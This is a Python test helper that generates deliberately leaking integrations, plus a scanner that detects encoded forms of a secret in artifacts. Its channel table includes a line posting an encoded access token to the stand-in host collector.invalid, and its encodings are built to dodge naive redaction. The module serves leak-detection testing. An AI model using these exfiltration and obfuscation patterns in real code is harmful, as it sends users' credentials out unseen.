"""Leaking integrations, generated: every encoding on every channel (issue 15), and a scanner
that looks for any form of a secret in an artifact, written independently of the harness."""

from __future__ import annotations

import base64
import html
import json
from collections.abc import Callable, Iterable
from urllib.parse import quote, quote_plus, unquote, unquote_plus


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


# name -> Python expression over the secret ``t`` (what the generated integration evaluates).
ENCODING_SOURCE: dict[str, str] = {
    "raw": "t",
    "lower": "t.lower()",
    "upper": "t.upper()",
    "url": "urllib.parse.quote(t, safe='')",
    "url_every_byte": "''.join('%%%02x' % b for b in t.encode())",
    "url_half": "''.join(('%%%02X' % ord(c)) if i % 2 and ord(c) < 128 else c "
    "for i, c in enumerate(t))",
    "json": "json.dumps({'token': t})",
    "unicode_escapes": "''.join('\\\\u%04x' % ord(c) for c in t)",
    "html": "html.escape(t)",
    "html_entities": "''.join('&#%d;' % ord(c) for c in t)",
    "hex": "t.encode().hex()",
    "hex_upper": "t.encode().hex().upper()",
    "base64": "base64.b64encode(t.encode()).decode()",
    "base64_offset": "base64.b64encode(b'k:' + t.encode() + b'!').decode()",
    "base64url": "base64.urlsafe_b64encode(b'\\xff' + t.encode()).decode()",
    "double_base64": "base64.b64encode(base64.b64encode(t.encode())).decode()",
    "basic_auth": "'Basic ' + base64.b64encode(b'user:' + t.encode()).decode()",
}

# name -> statement leaking ``s`` (an encoded secret); ``shop`` is the configured shop handle.
CHANNEL_SOURCE: dict[str, str] = {
    "logger": "logger.info('value: %s', s)",
    "logger_for_bot": "logger.for_bot().error('failed with ' + s)",
    "stdlib_logging": "logging.getLogger('leaky').warning('got %s', s)",
    "print": "print('debug', s)",
    "stderr": "sys.stderr.write('oops ' + s + '\\n')",
    "warnings": "warnings.warn('careful ' + s)",
    "url_query": "httpx.get(f'https://{shop}.myshopify.com/admin/api/2025-10/shop.json',"
    " params={'probe': s})",
    "other_host": "_try(lambda: httpx.post('https://collector.invalid/', content=s))",
    "exception": "raise ValueError('bad token ' + s)",
    "runtime_error": "raise RuntimeError('refused: ' + s)",
}

_HEADER = """\
import base64, html, json, logging, sys, urllib.parse, warnings
import httpx
from harness.platform import RuntimeError


def _try(call):
    try:
        call()
    except Exception:
        pass

"""


def leaking_source(leaks: Iterable[tuple[str, str]], *, token_key: str = "access_token") -> str:
    """An integration whose register leaks the secret under ``token_key`` once per
    ``(channel, encoding)``; raising channels come last (only the first one raises)."""
    body: list[str] = []
    raising: list[str] = []
    for channel, encoding in leaks:
        line = f"s = {ENCODING_SOURCE[encoding]}; {CHANNEL_SOURCE[channel]}"
        (raising if channel in ("exception", "runtime_error") else body).append(line)
    lines = [
        "def register(ctx, logger):",
        f"    t = ctx.configuration[{token_key!r}]",
        "    shop = ctx.configuration['shopName']",
        *(f"    {line}" for line in body + raising[:1]),
        "    return None",
        "",
        "",
        "def unregister(ctx):",
        "    pass",
        "",
    ]
    return _HEADER + "\n".join(lines)


def _full_percent(s: str) -> str:
    return "".join(f"%{b:02x}" for b in s.encode())


FORMS: tuple[Callable[[str], str], ...] = (
    lambda s: s,
    lambda s: quote(s, safe=""),
    quote,
    quote_plus,
    _full_percent,
    lambda s: json.dumps(s)[1:-1],
    lambda s: json.dumps(s, ensure_ascii=False)[1:-1],
    lambda s: "".join(f"\\u{ord(c):04x}" for c in s),
    html.escape,
    lambda s: "".join(f"&#{ord(c)};" for c in s),
    lambda s: "".join(f"&#x{ord(c):x};" for c in s),
    lambda s: s.encode().hex(),
)


def _base64_pieces(data: bytes) -> list[str]:
    """The stable middle of base64(data) at each offset inside a blob (both alphabets)."""
    pieces = []
    for shift in range(3):
        encoded = _b64(b"\0" * shift + data)
        start = -(-shift * 8 // 6)
        end = (shift + len(data)) * 8 // 6
        piece = encoded[start:end]
        if len(piece) >= 8:
            pieces += [piece, piece.replace("+", "-").replace("/", "_")]
    return pieces


def spellings(secret: str) -> set[str]:
    """Lower-cased spellings of ``secret`` that must not appear in any artifact."""
    found = {form(secret).lower() for form in FORMS}
    for piece in _base64_pieces(secret.encode()):
        found.add(piece.lower())
        found.update(p.lower() for p in _base64_pieces(piece.encode()))
    return {s for s in found if len(s) >= 8}


def scan(artifact: str, secrets: Iterable[str]) -> list[str]:
    """The spellings of ``secrets`` found in ``artifact`` (also after URL and HTML decoding)."""
    views = [artifact, unquote(artifact), unquote_plus(artifact), html.unescape(artifact)]
    lowered = [v.lower() for v in views]
    hits = []
    for secret in secrets:
        for spelling in sorted(spellings(secret)):
            if any(spelling in view for view in lowered):
                hits.append(spelling)
    return hits
